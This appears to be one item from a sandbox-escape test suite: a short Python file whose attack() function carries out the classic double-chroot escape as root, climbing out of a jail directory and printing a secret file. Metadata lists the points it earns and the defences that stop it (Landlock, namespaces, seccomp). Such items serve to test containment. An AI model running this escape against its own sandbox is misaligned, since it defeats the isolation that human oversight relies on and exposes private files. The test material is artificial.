"""As root, I change the root folder twice: whatever held me in is left behind, and all files are mine."""

import os

EARNS = "10"
STOPPED_BY = ("Landlock", "namespaces", "own user", "seccomp")
EVIDENCE = "printed"
NEEDS = "root"


def attack():
    os.mkdir("jail")
    os.chroot("jail")
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    print(open(PRIVATE_SECRET).read())
